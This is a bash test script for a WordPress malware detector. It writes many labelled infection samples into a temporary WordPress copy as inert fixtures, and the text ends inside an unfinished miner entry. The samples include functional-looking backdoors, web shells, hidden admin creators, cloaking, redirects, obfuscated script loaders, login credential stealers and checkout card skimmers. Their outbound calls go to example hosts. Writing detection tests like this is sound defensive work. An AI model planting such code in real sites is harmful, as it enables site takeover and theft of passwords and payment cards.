#!/usr/bin/env bash
# A compromised WordPress site with the common infections, technique by
# technique (docs/detection-eval.md, "The WordPress site with the common
# compromise techniques"): the real WordPress of the clean corpus
# (tests/wp_site.sh), and into it several shapes of each file-borne
# technique a hosting operator meets on WordPress, plus benign look-alikes
# of what real plugins contain. Each injection must be found (high or
# critical where plainly malicious), each look-alike may get nothing high,
# and no untouched WordPress file may get any finding.
#
# Every text here was written for this test, from the technique (no sample
# of a collection and no held-out file was opened); it is inert data in a
# temp dir, never run, included or served. Addresses are documentation
# ranges and example domains.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../wp_site.sh"
wp_site_setup || exit 0
T21=wp-content/themes/twentytwentyone
T22=wp-content/themes/twentytwentytwo
T23=wp-content/themes/twentytwentythree

## --- theme infectors: a functions.php loader that fetches code, spreads to
## every theme, makes an admin and keeps a marker file
inject $T21/functions.php high append "theme infector: fetch, copy into every theme's functions.php, marker file" theme-infector <<'EOF'

if ( ! file_exists( ABSPATH . 'wp-includes/images/.theme-sync' ) ) {
	$tsync = wp_remote_retrieve_body( wp_remote_get( 'http://cdn-themes-sync.example/t/' . md5( home_url() ) . '.txt', array( 'timeout' => 8 ) ) );
	if ( strlen( $tsync ) > 100 ) {
		foreach ( glob( get_theme_root() . '/*/functions.php' ) as $tfile ) {
			if ( strpos( file_get_contents( $tfile ), 'theme-sync' ) === false ) {
				file_put_contents( $tfile, "\n" . $tsync, FILE_APPEND );
			}
		}
		touch( ABSPATH . 'wp-includes/images/.theme-sync' );
	}
}
EOF
inject $T22/functions.php high append "theme infector: request-driven code swap into every theme (password + action)" theme-infector <<'EOF'

if ( isset( $_REQUEST['tpass'] ) && md5( $_REQUEST['tpass'] ) == 'a9b7ba70783b617e9998dc4dd82eb3c5' ) {
	switch ( $_REQUEST['tact'] ) {
		case 'code':
			$themes_dir = dirname( dirname( __FILE__ ) );
			foreach ( scandir( $themes_dir ) as $th ) {
				$fn = $themes_dir . '/' . $th . '/functions.php';
				if ( $th[0] != '.' && is_file( $fn ) ) {
					$old = file_get_contents( $fn );
					file_put_contents( $fn, $old . stripslashes( $_REQUEST['tcode'] ) );
				}
			}
			echo 'done';
			break;
		case 'domain':
			update_option( 'tsrv', $_REQUEST['tsrv'] );
			break;
	}
	die();
}
EOF
# (this block theme has no functions.php: the infector writes one)
inject $T23/functions.php high new "theme infector: curl loader eval'd, admin user created once" theme-infector <<'EOF'
<?php
add_action( 'init', function () {
	if ( get_option( 'wp_theme_mods_cache_v2' ) ) {
		return;
	}
	$ch = curl_init( 'https://api-wpthemes-update.example/v2/load.php?d=' . $_SERVER['HTTP_HOST'] );
	curl_setopt( $ch, CURLOPT_RETURNTRANSFER, 1 );
	$body = curl_exec( $ch );
	curl_close( $ch );
	if ( $body ) {
		eval( '?>' . $body );
	}
	if ( ! username_exists( 'wpsupport' ) ) {
		$uid = wp_create_user( 'wpsupport', 'Xq8#kd02!mz', 'wpsupport@mail-helpdesk.example' );
		$u = new WP_User( $uid );
		$u->set_role( 'administrator' );
	}
	update_option( 'wp_theme_mods_cache_v2', 1 );
} );
EOF
# the infector's own file, named like a theme module
inject $T21/inc/class-theme-modules.php high new "theme infector's module: writes the loader into every theme, pings home" theme-infector <<'EOF'
<?php
$wp_mod_code = base64_decode( get_option( 'theme_mod_bundle' ) );
$wp_mod_mark = WP_CONTENT_DIR . '/uploads/.mods.lock';
if ( $wp_mod_code && ! is_file( $wp_mod_mark ) ) {
	$dirs = glob( WP_CONTENT_DIR . '/themes/*', GLOB_ONLYDIR );
	foreach ( $dirs as $d ) {
		$target = $d . '/functions.php';
		$src = @file_get_contents( $target );
		if ( $src !== false && stripos( $src, 'theme_mod_bundle' ) === false ) {
			$src = preg_replace( '/^<\?php/', "<?php\n" . $wp_mod_code, $src, 1 );
			@file_put_contents( $target, $src );
		}
	}
	@file_get_contents( 'http://stat-wpmods.example/ping?s=' . urlencode( site_url() ) );
	@file_put_contents( $wp_mod_mark, time() );
}
EOF

## --- fake plugins that hide themselves, hidden admins, magic logins
inject wp-content/plugins/wp-cache-optimizer/wp-cache-optimizer.php high new "fake plugin hiding from the plugin list with an eval backdoor" fake-plugin <<'EOF'
<?php
/**
 * Plugin Name: WP Cache Optimizer
 * Plugin URI: https://wordpress.org/plugins/
 * Description: Speeds up page loads by caching static resources.
 * Version: 2.4.1
 * Author: WordPress Performance Team
 * License: GPLv2 or later
 */
if ( ! defined( 'ABSPATH' ) ) {
	exit;
}
add_filter( 'all_plugins', function ( $plugins ) {
	unset( $plugins[ plugin_basename( __FILE__ ) ] );
	return $plugins;
} );
add_action( 'init', function () {
	if ( ! empty( $_POST['wco_k'] ) ) {
		$wco = gzinflate( base64_decode( $_POST['wco_k'] ) );
		@eval( $wco );
		exit;
	}
} );
EOF
inject wp-content/plugins/classic-widgets-pro/classic-widgets-pro.php high new "fake plugin: magic login (auth cookie set from a request key), hidden from the list" fake-plugin <<'EOF'
<?php
/*
Plugin Name: Classic Widgets Pro
Description: Restores the classic widgets screen.
Version: 1.3
Author: Widget Labs
*/
function cwp_hide_self( $list ) {
	if ( isset( $list['classic-widgets-pro/classic-widgets-pro.php'] ) ) {
		unset( $list['classic-widgets-pro/classic-widgets-pro.php'] );
	}
	return $list;
}
add_filter( 'all_plugins', 'cwp_hide_self' );
function cwp_door() {
	if ( isset( $_GET['cwp_token'] ) && hash( 'sha256', $_GET['cwp_token'] ) === '6b8f0a1c44d92e1e5b0b3e4c5c23f0a5e0d1b9f7e2c4a6d8f0b2c4e6a8c0e2f4' ) {
		$admins = get_users( array( 'role' => 'administrator', 'number' => 1 ) );
		wp_set_current_user( $admins[0]->ID );
		wp_set_auth_cookie( $admins[0]->ID, true );
		wp_safe_redirect( admin_url() );
		exit;
	}
}
add_action( 'init', 'cwp_door' );
EOF
inject wp-content/plugins/wp-health-monitor/index.php high new "fake plugin: hides itself and its admin, creates the admin from the request" hidden-admin <<'EOF'
<?php
/**
 * Plugin Name: Site Health Monitor
 * Description: Monitors site health.
 * Version: 1.0.7
 */
add_action( 'init', function () {
	if ( isset( $_GET['shm_user'], $_GET['shm_pass'] ) && ! username_exists( $_GET['shm_user'] ) ) {
		$id = wp_insert_user( array(
			'user_login' => sanitize_user( $_GET['shm_user'] ),
			'user_pass'  => $_GET['shm_pass'],
			'role'       => 'administrator',
		) );
		update_option( 'shm_uid', $id );
	}
} );
add_action( 'pre_user_query', function ( $q ) {
	global $wpdb;
	$q->query_where .= $wpdb->prepare( " AND {$wpdb->users}.ID != %d", (int) get_option( 'shm_uid' ) );
} );
add_filter( 'all_plugins', function ( $p ) {
	unset( $p['wp-health-monitor/index.php'] );
	return $p;
} );
EOF
inject wp-content/mu-plugins/wp-users-cache.php high new "must-use plugin hiding a raw-SQL admin from the Users screen and the counts" hidden-admin <<'EOF'
<?php
global $wpdb;
if ( ! $wpdb->get_var( "SELECT ID FROM {$wpdb->users} WHERE user_login = 'sysadmin_wp'" ) ) {
	$wpdb->query( "INSERT INTO {$wpdb->users} (user_login, user_pass, user_email, user_registered, display_name) VALUES ('sysadmin_wp', MD5('S3rv1ce!2023'), 'sys@wpmail-backup.example', NOW(), 'sysadmin_wp')" );
	$nid = $wpdb->insert_id;
	$wpdb->query( "INSERT INTO {$wpdb->usermeta} (user_id, meta_key, meta_value) VALUES ($nid, '{$wpdb->prefix}capabilities', 'a:1:{s:13:\"administrator\";b:1;}')" );
}
add_action( 'pre_user_query', function ( $uq ) {
	$uq->query_where = str_replace( 'WHERE 1=1', "WHERE 1=1 AND user_login <> 'sysadmin_wp'", $uq->query_where );
} );
add_filter( 'views_users', function ( $views ) {
	return preg_replace( '/\(\d+\)/', '', $views );
} );
EOF

## --- SEO spam and cloaking
inject index.php high prepend "cloaking: spam fetched from a remote host and shown to search bots only" seo-cloaking <<'EOF'
<?php
$ua = strtolower( isset( $_SERVER['HTTP_USER_AGENT'] ) ? $_SERVER['HTTP_USER_AGENT'] : '' );
if ( preg_match( '/googlebot|bingbot|yandex|baiduspider|slurp/', $ua ) ) {
	$page = @file_get_contents( 'http://seo-links-farm.example/c.php?h=' . $_SERVER['HTTP_HOST'] . '&u=' . urlencode( $_SERVER['REQUEST_URI'] ) );
	if ( $page ) {
		echo $page;
		exit;
	}
}
?>
EOF
inject wp-blog-header.php high prepend "keyword-hack doorway: remote content per URI for bots and search visitors" seo-doorway <<'EOF'
<?php
function wpbh_is_bot() {
	$a = $_SERVER['HTTP_USER_AGENT'];
	foreach ( array( 'Googlebot', 'bingbot', 'Yahoo! Slurp', 'YandexBot' ) as $b ) {
		if ( stripos( $a, $b ) !== false ) return true;
	}
	return false;
}
$wpbh_ref = isset( $_SERVER['HTTP_REFERER'] ) ? $_SERVER['HTTP_REFERER'] : '';
if ( preg_match( '#^/(shop|cheap|jp)/[a-z0-9-]+\.html$#', $_SERVER['REQUEST_URI'] ) ) {
	if ( wpbh_is_bot() ) {
		$ch = curl_init();
		curl_setopt( $ch, CURLOPT_URL, 'http://198.51.100.77/kw/?dom=' . $_SERVER['HTTP_HOST'] . '&path=' . $_SERVER['REQUEST_URI'] );
		curl_setopt( $ch, CURLOPT_RETURNTRANSFER, true );
		echo curl_exec( $ch );
		exit;
	} elseif ( preg_match( '/google\.|bing\.|yahoo\./i', $wpbh_ref ) ) {
		header( 'Location: http://best-deals-store.example/go.php?k=' . urlencode( $_SERVER['REQUEST_URI'] ) );
		exit;
	}
}
?>
EOF
inject wp-content/uploads/2023/06/sitemap-gen.php high new "doorway generator: pages written from a remote keyword list, sitemaps, search-engine ping" seo-doorway <<'EOF'
<?php
set_time_limit( 0 );
$root = $_SERVER['DOCUMENT_ROOT'];
$kw = explode( "\n", file_get_contents( 'http://kw-list.example/jp/' . intval( $_GET['n'] ) . '.txt' ) );
$tpl = file_get_contents( 'http://kw-list.example/tpl.html' );
@mkdir( $root . '/store', 0755 );
$urls = array();
foreach ( $kw as $i => $k ) {
	$k = trim( $k );
	if ( $k === '' ) continue;
	$slug = substr( md5( $k ), 0, 10 ) . '.html';
	file_put_contents( $root . '/store/' . $slug, str_replace( array( '{title}', '{kw}' ), array( $k, $k ), $tpl ) );
	$urls[] = 'http://' . $_SERVER['HTTP_HOST'] . '/store/' . $slug;
}
$xml = '<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">';
foreach ( $urls as $u ) {
	$xml .= '<url><loc>' . $u . '</loc><changefreq>daily</changefreq></url>';
}
file_put_contents( $root . '/sitemap' . intval( $_GET['n'] ) . '.xml', $xml . '</urlset>' );
file_get_contents( 'http://www.google.com/ping?sitemap=' . urlencode( 'http://' . $_SERVER['HTTP_HOST'] . '/sitemap' . intval( $_GET['n'] ) . '.xml' ) );
echo count( $urls ) . ' ok';
EOF
inject wp-includes/class-wp-feed-cache-helper.php high new "cloaking by Google's address range and reverse DNS, spam text from a remote host" seo-cloaking <<'EOF'
<?php
$ip = $_SERVER['REMOTE_ADDR'];
$host = gethostbyaddr( $ip );
if ( strpos( $ip, '66.249.' ) === 0 || preg_match( '/\.(googlebot|google)\.com$/', $host ) ) {
	$spam = wp_remote_retrieve_body( wp_remote_get( 'http://links-srv.example/feed/' . base64_encode( $_SERVER['HTTP_HOST'] ) ) );
	echo '<div>' . $spam . '</div>';
}
EOF

## --- hidden link injection
inject $T21/inc/template-tags.php high append "hidden links appended to every post through the_content, fetched and cached" seo-links <<'EOF'

add_filter( 'the_content', 'twentytwentyone_related_links', 99 );
function twentytwentyone_related_links( $content ) {
	$l = get_transient( 'tt1_rel_links' );
	if ( false === $l ) {
		$l = wp_remote_retrieve_body( wp_remote_get( 'http://backlinks-network.example/get.php?site=' . rawurlencode( home_url() ) ) );
		set_transient( 'tt1_rel_links', $l, DAY_IN_SECONDS );
	}
	if ( ! is_user_logged_in() ) {
		$content .= '<div style="position:absolute;left:-6000px;top:-6000px">' . $l . '</div>';
	}
	return $content;
}
EOF
inject wp-content/mu-plugins/footer-credits.php high new "hidden spam links echoed in wp_footer to visitors who are not logged in" seo-links <<'EOF'
<?php
add_action( 'wp_footer', function () {
	if ( is_user_logged_in() ) {
		return;
	}
	echo '<div style="display:none"><a href="https://online-casino-bonus.example/">online casino</a> <a href="https://cheap-replica-watches.example/">replica watches</a> <a href="https://buy-viagra-now.example/">buy viagra</a></div>';
} );
EOF

## --- malicious redirects (PHP, .htaccess)
inject $T21/header.php any prepend "mobile redirect: first-time mobile visitors sent offsite, cookie set" redirect-php <<'EOF'
<?php
if ( wp_is_mobile() && ! is_user_logged_in() && empty( $_COOKIE['_wp_mvisit'] ) ) {
	setcookie( '_wp_mvisit', '1', time() + 86400, '/' );
	header( 'Location: https://mobile-prize-win.example/?src=' . $_SERVER['HTTP_HOST'] );
	exit;
}
?>
EOF
inject wp-includes/nav-menu-cache.php high new "search-referrer redirect in PHP, skipping admins and bots" redirect-php <<'EOF'
<?php
$r = isset( $_SERVER['HTTP_REFERER'] ) ? $_SERVER['HTTP_REFERER'] : '';
$a = isset( $_SERVER['HTTP_USER_AGENT'] ) ? $_SERVER['HTTP_USER_AGENT'] : '';
if ( preg_match( '/(google|bing|yahoo|duckduckgo|yandex)\./i', $r ) && ! preg_match( '/bot|crawl|spider/i', $a ) && ! isset( $_COOKIE['wordpress_logged_in'] ) ) {
	header( 'HTTP/1.1 302 Found' );
	header( 'Location: http://traffic-exchange.example/in.php?id=4471' );
	exit();
}
EOF
inject .htaccess high new "htaccess: search-engine referrers redirected offsite" redirect-htaccess <<'EOF'
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteCond %{HTTP_REFERER} ^.*(google|ask|yahoo|bing|yandex|aol|msn)\.(.*)$ [NC]
RewriteCond %{HTTP_USER_AGENT} !(bot|crawl|spider) [NC]
RewriteRule ^(.*)$ http://pharma-outlet.example/ [R=302,L]
</IfModule>

# BEGIN WordPress
<IfModule mod_rewrite.c>
RewriteEngine On
RewriteRule .* - [E=HTTP_AUTHORIZATION:%{HTTP:Authorization}]
RewriteBase /
RewriteRule ^index\.php$ - [L]
RewriteCond %{REQUEST_FILENAME} !-f
RewriteCond %{REQUEST_FILENAME} !-d
RewriteRule . /index.php [L]
</IfModule>
# END WordPress
EOF
inject wp-content/uploads/.htaccess any new "htaccess: mobile user agents redirected offsite" redirect-htaccess <<'EOF'
RewriteEngine on
RewriteCond %{HTTP_USER_AGENT} (android|iphone|ipod|blackberry|opera\ mini|windows\ phone) [NC]
RewriteRule ^ https://m-sweepstakes.example/lp/?s=%{HTTP_HOST} [L,R=301]
EOF
inject wp-admin/.htaccess any new "htaccess: locks the site's PHP, lets only the attacker's files run" redirect-htaccess <<'EOF'
<FilesMatch ".(py|exe|phtml|php|PHP|Php|PHp|pHp|pHP|phP|PhP|php5|suspected)$">
Order allow,deny
Deny from all
</FilesMatch>
<FilesMatch "^(index.php|lock360.php|wp-l0ader.php|radio.php)$">
Order allow,deny
Allow from all
</FilesMatch>
EOF

## --- injected script loaders: theme templates and JS files
inject $T21/footer.php high append "footer.php: script loader with a fromCharCode-built address" js-injection <<'EOF'
<script type="text/javascript">var _s=document.createElement("script");_s.src=String.fromCharCode(104,116,116,112,115,58,47,47,115,116,97,116,115,46,99,100,110,45,106,115,46,101,120,97,109,112,108,101,47,106,46,106,115);document.getElementsByTagName("head")[0].appendChild(_s);</script>
EOF
inject $T21/assets/js/primary-navigation.js high prepend "theme JS: eval of a fromCharCode payload prepended" js-injection <<'EOF'
eval(String.fromCharCode(118,97,114,32,100,61,100,111,99,117,109,101,110,116,44,115,61,100,46,99,114,101,97,116,101,69,108,101,109,101,110,116,40,39,115,99,114,105,112,116,39,41,59,115,46,115,114,99,61,39,104,116,116,112,115,58,47,47,106,115,46,101,120,97,109,112,108,101,47,97,46,106,115,39,59,100,46,104,101,97,100,46,97,112,112,101,110,100,67,104,105,108,100,40,115,41));
EOF
inject wp-includes/js/jquery/jquery-migrate.min.js high append "core JS: atob-decoded script address appended to jquery-migrate" js-injection <<'EOF'
;(function(){if(document.cookie.indexOf("_jqm=")>-1)return;document.cookie="_jqm=1;path=/;max-age=86400";var e=document.createElement("script");e.async=true;e.src=atob("aHR0cHM6Ly9jZG4tanF1ZXJ5LWxpYi5leGFtcGxlL2pxLm1pbi5qcw==");(document.head||document.documentElement).appendChild(e);})();
EOF
inject $T21/assets/js/responsive-embeds.js high append "theme JS: document.write of an unescaped script tag" js-injection <<'EOF'
document.write(unescape("%3Cscript%20src%3D%22https%3A%2F%2Fads-delivery.example%2Fr.js%22%3E%3C%2Fscript%3E"));
EOF
inject $T21/assets/js/skip-link-focus-fix.js high append "theme JS: search-referrer redirect of first-time visitors" js-injection <<'EOF'
(function(){var r=document.referrer;if(/google\.|bing\.|yahoo\.|yandex\./i.test(r)&&document.cookie.indexOf("wp_r=")<0){document.cookie="wp_r=1; max-age=604800; path=/";window.location.replace("https://promo-landing.example/?q="+encodeURIComponent(r));}})();
EOF
inject wp-includes/js/wp-emoji-release.min.js high append "core JS: obfuscated array-of-strings loader with a reversed address" js-injection <<'EOF'
var _0x3a1f=["\x63\x72\x65\x61\x74\x65\x45\x6c\x65\x6d\x65\x6e\x74","\x73\x63\x72\x69\x70\x74","\x73\x72\x63","sj.x/elpmaxe.ofni-scitylana//:sptth","\x73\x70\x6c\x69\x74","\x72\x65\x76\x65\x72\x73\x65","\x6a\x6f\x69\x6e","\x61\x70\x70\x65\x6e\x64\x43\x68\x69\x6c\x64","\x68\x65\x61\x64"];var _0xd=document[_0x3a1f[0]](_0x3a1f[1]);_0xd[_0x3a1f[2]]=_0x3a1f[3][_0x3a1f[4]]("")[_0x3a1f[5]]()[_0x3a1f[6]]("");document[_0x3a1f[8]][_0x3a1f[7]](_0xd);
EOF
inject wp-includes/general-template-cache.php high new "PHP echoing an eval(atob()) script in wp_head" js-injection <<'EOF'
<?php
add_action( 'wp_head', function () {
	if ( ! current_user_can( 'manage_options' ) ) {
		echo "<script>eval(atob('dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgic2NyaXB0Iik7cy5zcmM9Imh0dHBzOi8vdHJhY2stc3RhdC5leGFtcGxlL3QuanMiO2RvY3VtZW50LmhlYWQuYXBwZW5kQ2hpbGQocyk7'));</script>";
	}
}, 1 );
EOF

## --- credential stealers on the login hooks
inject wp-includes/pluggable-cache.php high new "wp_login hook posting the typed password and the site away" cred-stealer <<'EOF'
<?php
add_action( 'wp_login', function ( $login, $user ) {
	if ( ! empty( $_POST['pwd'] ) && in_array( 'administrator', (array) $user->roles, true ) ) {
		wp_remote_post( 'https://wp-stats-collector.example/c.php', array(
			'blocking' => false,
			'body'     => array( 's' => site_url(), 'u' => $login, 'p' => $_POST['pwd'] ),
		) );
	}
}, 10, 2 );
EOF
inject wp-content/mu-plugins/auth-log.php high new "authenticate filter appending user:password to a hidden file" cred-stealer <<'EOF'
<?php
add_filter( 'authenticate', 'mu_auth_log', 1, 3 );
function mu_auth_log( $user, $username, $password ) {
	if ( $username && $password ) {
		@file_put_contents( WP_CONTENT_DIR . '/uploads/.thumbs.db', $username . ':' . $password . ':' . $_SERVER['REMOTE_ADDR'] . "\n", FILE_APPEND );
	}
	return $user;
}
EOF
inject $T22/inc/block-patterns.php high append "wp_authenticate action mailing the login and password" cred-stealer <<'EOF'

add_action( 'wp_authenticate', 'tt2_pattern_cache', 1, 2 );
function tt2_pattern_cache( $user_login, $user_password ) {
	if ( $user_password != '' ) {
		@mail( 'wplogs@protonmail-box.example', 'L ' . $_SERVER['HTTP_HOST'], $user_login . ' | ' . $user_password . ' | ' . site_url( 'wp-login.php' ) );
	}
}
EOF
inject wp-login.php high prepend "wp-login.php prepend sending posted credentials to a messenger bot" cred-stealer <<'EOF'
<?php
if ( isset( $_POST['log'], $_POST['pwd'] ) ) {
	@file_get_contents( 'https://api.telegram.org/bot5801234567:AAFx-examplekey/sendMessage?chat_id=-1001234&text=' . urlencode( $_SERVER['HTTP_HOST'] . ' ' . $_POST['log'] . ' ' . $_POST['pwd'] ) );
}
?>
EOF

## --- WooCommerce checkout skimmers
inject wp-content/plugins/woo-payment-fees/woo-payment-fees.php high new "checkout hook posting the card fields offsite" wc-skimmer <<'EOF'
<?php
/**
 * Plugin Name: Woo Payment Fees
 * Description: Adds a handling fee per payment gateway.
 * Version: 1.2.0
 */
add_action( 'woocommerce_checkout_process', function () {
	$d = array();
	foreach ( array( 'billing_first_name', 'billing_last_name', 'billing_address_1', 'billing_city', 'billing_postcode', 'billing_email' ) as $k ) {
		$d[ $k ] = isset( $_POST[ $k ] ) ? $_POST[ $k ] : '';
	}
	$d['cc'] = $_POST['wc-card-number'] ?? $_POST['card_number'] ?? '';
	$d['exp'] = $_POST['wc-card-expiry'] ?? '';
	$d['cvv'] = $_POST['wc-card-cvc'] ?? $_POST['cvv'] ?? '';
	wp_remote_post( 'https://woo-fees-api.example/log', array( 'body' => json_encode( $d ), 'blocking' => false ) );
} );
EOF
inject wp-content/mu-plugins/wc-order-meta.php high new "order hook writing card data into a file disguised as an image" wc-skimmer <<'EOF'
<?php
add_action( 'woocommerce_checkout_order_processed', function ( $order_id ) {
	$line = base64_encode( serialize( array( $order_id, $_POST['billing_email'], $_POST['payment_card_number'], $_POST['payment_card_exp'], $_POST['payment_card_cvv'] ) ) );
	$fh = fopen( WP_CONTENT_DIR . '/uploads/wc-logs/.thumb-cache.png', 'a' );
	fwrite( $fh, $line . "\n" );
	fclose( $fh );
}, 1 );
EOF
inject $T21/assets/js/dark-mode-toggler.js high append "theme JS skimmer: card fields of the checkout sent with an image beacon" wc-skimmer <<'EOF'
(function(){function g(i){var e=document.getElementById(i);return e?e.value:""}
document.addEventListener("click",function(ev){var t=ev.target;if(!t||t.id!=="place_order")return;
var d=[g("billing_first_name"),g("billing_last_name"),g("billing_email"),g("cardnumber"),g("exp-date"),g("cvc")].join("|");
var i=new Image();i.src="https://jquery-cdn-static.example/p.gif?d="+btoa(d);},true);})();
EOF

## --- drop-ins and must-use plugins that load code
inject wp-content/advanced-cache.php high new "advanced-cache.php drop-in decoding and running a payload" dropin <<'EOF'
<?php
# WP-Cache: advanced-cache.php
if ( ! defined( 'WPCACHEHOME' ) ) {
	define( 'WPCACHEHOME', WP_CONTENT_DIR . '/cache/' );
}
$wpc_blob = 'K0otLk5Nzs8rSS0qSkzOyM3PS1VIrUgtSk4tyi9KzMlMTswtTi0uTi1SqM7MS8nPS1eIjuWqBQA=';
@eval( gzinflate( base64_decode( $wpc_blob ) ) . str_rot13( 'riny($_CBFG["jcp"]);' ) );
EOF
inject wp-content/object-cache.php high new "object-cache.php drop-in fetching code from a remote host into a temp file and including it" dropin <<'EOF'
<?php
/**
 * Object Cache API drop-in.
 */
$oc_tmp = sys_get_temp_dir() . '/.oc_' . md5( __FILE__ );
if ( ! file_exists( $oc_tmp ) || filemtime( $oc_tmp ) < time() - 3600 ) {
	$oc_src = @file_get_contents( 'http://203.0.113.19/oc/' . $_SERVER['HTTP_HOST'] );
	if ( $oc_src ) {
		@file_put_contents( $oc_tmp, $oc_src );
	}
}
@include $oc_tmp;
require_once ABSPATH . WPINC . '/cache.php';
EOF
inject wp-content/db.php high new "db.php drop-in: a cookie-keyed callee runs the request" dropin <<'EOF'
<?php
if ( isset( $_COOKIE['wpdb_c'], $_COOKIE['wpdb_a'] ) ) {
	$f = strrev( $_COOKIE['wpdb_c'] );
	$f( stripslashes( $_COOKIE['wpdb_a'] ) );
}
EOF
inject wp-content/mu-plugins/0-core-loader.php high new "mu-plugin loading a PHP file hidden as an image in uploads" dropin <<'EOF'
<?php
/*
 * Plugin Name: Core Loader
 */
$mu_l = WP_CONTENT_DIR . '/uploads/2022/11/.cache-thumb.jpg';
if ( is_file( $mu_l ) ) {
	include_once $mu_l;
}
EOF
inject wp-content/uploads/2022/11/.cache-thumb.jpg high new "... and the image it loads: a backdoor with a GIF header" dropin <<'EOF'
GIF89a
<?php if(!empty($_SERVER['HTTP_X_WP_CMD'])){echo shell_exec($_SERVER['HTTP_X_WP_CMD']);}
EOF

## --- core file prepends
inject wp-config.php high prepend "wp-config.php prepend: @include of a hidden file in uploads" core-prepend <<'EOF'
<?php @include_once( dirname( __FILE__ ) . '/wp-content/uploads/2021/04/.wp-cache.ico' ); ?>
EOF
inject wp-content/uploads/2021/04/.wp-cache.ico high new "... the included icon: a remote-code runner keyed on a header" core-prepend <<'EOF'
<?php
if ( isset( $_SERVER['HTTP_X_UPDATE_KEY'] ) && $_SERVER['HTTP_X_UPDATE_KEY'] === 'f0c1e7' ) {
	$u = $_SERVER['HTTP_X_UPDATE_URL'];
	eval( file_get_contents( $u ) );
}
EOF
inject wp-load.php high prepend "wp-load.php prepend: an uploader writing the posted file anywhere" core-prepend <<'EOF'
<?php
if ( isset( $_POST['wpl_k'] ) && $_POST['wpl_k'] === 'x7' && isset( $_FILES['u'] ) ) {
	@copy( $_FILES['u']['tmp_name'], $_POST['d'] . '/' . basename( $_FILES['u']['name'] ) );
	exit( 'U' );
}
?>
EOF
inject wp-includes/version.php high prepend "version.php prepend: GLOBALS-indexed hex-named callee" core-prepend <<'EOF'
<?php $GLOBALS['_wpv']=array("\x62\x61\x73\x65\x36\x34\x5f\x64\x65\x63\x6f\x64\x65","\x61\x73\x73\x65\x72\x74");if(isset($_REQUEST["\x77\x70\x76"])){$GLOBALS['_wpv'][1]($GLOBALS['_wpv'][0]($_REQUEST["\x77\x70\x76"]));} ?>
EOF

## --- auto_prepend_file
inject .user.ini high new ".user.ini auto_prepend_file of a hidden icon" auto-prepend <<'EOF'
auto_prepend_file = /home/alice/public_html/wp-content/uploads/2021/04/.wp-cache.ico
EOF
inject wp-content/.htaccess high new ".htaccess php_value auto_prepend_file of a temp file" auto-prepend <<'EOF'
php_value auto_prepend_file /tmp/.sess_cache_9a1
EOF

## --- backdoors with core-like names
inject wp-includes/class-wp-http-netfilter.php high new "core-like name: cookie-carried code run through an array callback" core-name-backdoor <<'EOF'
<?php
/**
 * HTTP API: WP_Http_Netfilter class
 *
 * @package WordPress
 * @subpackage HTTP
 */
if ( isset( $_COOKIE['wp_nf'] ) ) {
	$nf = array_filter( array( base64_decode( $_COOKIE['wp_nf'] ) ), 'assert' );
}
EOF
inject wp-admin/includes/class-wp-site-health-cache.php high new "core-like name: request body gzuncompressed and run" core-name-backdoor <<'EOF'
<?php
/**
 * Site Health cache.
 *
 * @since 5.9.0
 */
$shc = file_get_contents( 'php://input' );
if ( strlen( $shc ) > 32 && substr( $shc, 0, 4 ) === 'SHC1' ) {
	$run = create_function( '', gzuncompress( substr( $shc, 4 ) ) );
	$run();
}
EOF
inject wp-admin/css/colors/blue/index.php high new "file manager and command runner hidden in wp-admin/css" core-name-backdoor <<'EOF'
<?php
error_reporting( 0 );
$d = isset( $_GET['d'] ) ? $_GET['d'] : getcwd();
if ( isset( $_POST['c'] ) ) {
	echo '<pre>' . htmlspecialchars( shell_exec( $_POST['c'] . ' 2>&1' ) ) . '</pre>';
}
if ( isset( $_FILES['f'] ) ) {
	move_uploaded_file( $_FILES['f']['tmp_name'], $d . '/' . $_FILES['f']['name'] );
}
if ( isset( $_GET['del'] ) ) {
	unlink( $_GET['del'] );
}
foreach ( scandir( $d ) as $e ) {
	echo '<a href="?d=' . urlencode( $d . '/' . $e ) . '">' . htmlspecialchars( $e ) . '</a> ' . ( is_file( $d . '/' . $e ) ? filesize( $d . '/' . $e ) : '' ) . '<br>';
}
echo '<form method="post" enctype="multipart/form-data"><input name="c"><input type="file" name="f"><input type="submit"></form>';
EOF

## --- PHP in uploads
inject wp-content/uploads/2024/05/image-resize.php high new "PHP in uploads: preg_replace_callback runner on a posted value" uploads-php <<'EOF'
<?php
preg_replace_callback( '/.+/', function ( $m ) { return eval( $m[0] ); }, base64_decode( $_POST['img'] ) );
EOF
inject wp-content/uploads/2024/05/photo.jpg.php high new "PHP in uploads: double extension, include of a posted URL" uploads-php <<'EOF'
<?php if ( isset( $_REQUEST['src'] ) ) { include $_REQUEST['src']; }
EOF
inject wp-content/uploads/2024/02/thumbnail-150x150.png high new "PHP in uploads: a PNG name holding a system() shell" uploads-php <<'EOF'
<?php echo "<pre>"; system($_GET['x']); echo "</pre>"; ?>
EOF

## --- WP-Cron re-infection
inject wp-content/mu-plugins/wp-cron-cache.php high new "WP-Cron event that downloads code and writes it into the core tree" cron-reinfect <<'EOF'
<?php
add_filter( 'cron_schedules', function ( $s ) {
	$s['every_ten'] = array( 'interval' => 600, 'display' => 'Every 10 minutes' );
	return $s;
} );
if ( ! wp_next_scheduled( 'wp_update_object_cache' ) ) {
	wp_schedule_event( time(), 'every_ten', 'wp_update_object_cache' );
}
add_action( 'wp_update_object_cache', function () {
	$r = wp_remote_get( 'http://update-wpcache.example/latest.txt' );
	if ( ! is_wp_error( $r ) && wp_remote_retrieve_response_code( $r ) == 200 ) {
		file_put_contents( ABSPATH . 'wp-includes/class-wp-object-loader.php', wp_remote_retrieve_body( $r ) );
	}
} );
EOF
inject $T23/inc/cron.php high new "WP-Cron event restoring the theme loader from an option if removed" cron-reinfect <<'EOF'
<?php
add_action( 'tt3_daily_maintenance', 'tt3_restore' );
if ( ! wp_next_scheduled( 'tt3_daily_maintenance' ) ) {
	wp_schedule_event( time() + 60, 'hourly', 'tt3_restore_event' );
	add_action( 'tt3_restore_event', 'tt3_restore' );
}
function tt3_restore() {
	$f = get_template_directory() . '/functions.php';
	$payload = gzinflate( base64_decode( get_option( 'tt3_assets_v' ) ) );
	if ( strpos( file_get_contents( $f ), 'tt3_assets_v' ) === false ) {
		file_put_contents( $f, $payload, FILE_APPEND );
	}
}
EOF

## --- in-browser miners
inject $T21/template-parts/header/site-header.php high append "in-browser miner appended to a header template" miner <<'EOF'
